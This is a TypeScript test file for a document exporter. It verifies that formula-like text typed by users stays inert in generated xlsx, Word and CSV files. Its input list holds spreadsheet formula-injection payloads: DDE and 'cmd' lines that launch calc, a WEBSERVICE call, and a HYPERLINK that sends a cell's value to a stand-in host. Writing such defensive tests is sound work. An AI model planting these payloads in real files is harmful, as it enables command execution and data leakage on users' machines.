// What people typed that looks like a formula stays text in everything that Tenun writes, also after a spreadsheet has opened and saved it.

import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { readText } from '../../src/text/read-text.ts';
import { guardFormula, unguardFormula } from '../../src/read/formula-text.ts';
import { writeDocument } from '../../src/write/write-document.ts';
import { NO_OFFICE, throughOffice } from '../sheet/office.ts';
import { matrixText } from './office-files.ts';

const TYPED = ['=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")', '=1+1', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '=DDE("cmd","/C calc","x")', '=WEBSERVICE("http://contoh.invalid")', '＝1+1'];

/** A plan in which somebody typed these as names, goals, indicators and units. */
const PLAN = readText(matrixText()).content;
const [LEAF, INDICATOR] = [PLAN.nodes.at(-1)!, PLAN.indicators.at(-1)!];
const TYPED_PLAN = {
  ...PLAN,
  nodes: [...PLAN.nodes, ...TYPED.map((text, index) => ({ ...LEAF, id: `ketikan-${index}`, code: null, name: text, satuan: text, sumberDana: text }))],
  indicators: [...PLAN.indicators, ...TYPED.map((text, index) => ({ ...INDICATOR, id: `indikator-${index}`, nodeId: `ketikan-${index}`, name: text, sasaran: text }))],
};

/** All texts of cells of all sheets, and all formulas. */
function cellsOf(bytes: Uint8Array): { readonly texts: ReadonlySet<string>; readonly formulas: readonly string[] } {
  const parts = unzipSync(bytes);
  const xml = Object.entries(parts).filter(([name]) => /^xl\/(?:sharedStrings|worksheets\/sheet\d+)\.xml$/.test(name)).map(([, content]) => strFromU8(content)).join('');
  const plain = (text: string): string => text.replaceAll('&quot;', '"').replaceAll('&apos;', "'").replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&');
  return { texts: new Set([...xml.matchAll(/<t(?: [^>]*)?>([^<]*)<\/t>/g)].map(([, text = '']) => plain(text))), formulas: [...xml.matchAll(/<f(?: [^>]*)?>([^<]*)<\/f>/g)].map(([, text = '']) => plain(text)) };
}

const onlySums = (formulas: readonly string[]): string[] => formulas.filter((formula) => !/^(?:SUM\(|[A-Z]+\d+-[A-Z]+\d+$)/.test(formula));

describe('a workbook', () => {
  it('holds what was typed as text, and no formula but its own sums', async () => {
    expect(PLAN.nodes).toHaveLength(3);
    const { texts, formulas } = cellsOf(await writeDocument(TYPED_PLAN, 'matriks', 'xlsx'));
    for (const text of TYPED) expect(texts).toContain(text);
    expect(onlySums(formulas)).toEqual([]);
  });

  it.skipIf(NO_OFFICE)('still does when LibreOffice has opened and saved it', async () => {
    const { texts, formulas } = cellsOf(throughOffice(await writeDocument(TYPED_PLAN, 'matriks', 'xlsx'), 'xlsx', 'xlsx'));
    // It writes a wide sign in a font of its own, apart from the rest of its cell.
    for (const text of TYPED.filter((typed) => !typed.startsWith('＝'))) expect(texts).toContain(text);
    expect(onlySums(formulas)).toEqual([]);
  });
});

describe('a Word document', () => {
  it('has no field of what was typed', async () => {
    const xml = strFromU8(unzipSync(await writeDocument(TYPED_PLAN, 'rkt', 'docx'))['word/document.xml']!);
    const fields = [...xml.matchAll(/<w:instrText[^>]*>([^<]*)<|w:instr="([^"]*)"/g)].map(([, text, attribute]) => (text ?? attribute ?? '').trim());
    expect(fields.filter((field) => !/^(?:TOC|PAGEREF|PAGE|NUMPAGES|SECTIONPAGES|STYLEREF|REF|SEQ)\b/.test(field))).toEqual([]);
    expect(xml).toContain('DDE(');
  });
});

describe('cells of CSV', () => {
  it('that could run are text, and read back as they were', () => {
    fc.assert(fc.property(fc.oneof(fc.string(), fc.string({ unit: 'binary' }), fc.constantFrom(...TYPED, '-', '--', "'=x", "''=x", '-5', '+62 812', '-1.250.000,50', '\t=1', '\r=1')), (text) => {
      const guarded = guardFormula(text);
      expect(unguardFormula(guarded)).toBe(text);
      expect(/^[=+\-@\t\r\n＝＋－＠]/.test(guarded) && !/^[-+]?\d[\d.,]*$/.test(guarded) && !/^-+$/.test(guarded)).toBe(false);
    }));
  });

  it('that are numbers stay numbers', () => {
    for (const text of ['-5', '12.000.000', '+3', '-1.250.000,50', '0']) expect(guardFormula(text)).toBe(text);
  });
});
